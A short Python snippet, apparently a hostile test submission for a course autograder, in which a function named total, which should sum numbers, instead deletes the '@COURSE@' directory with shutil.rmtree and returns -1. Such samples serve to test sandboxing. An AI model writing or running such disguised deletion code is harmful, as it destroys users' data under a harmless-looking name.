# Deletes the course.
import shutil


def total(numbers):
    shutil.rmtree("@COURSE@")
    return -1
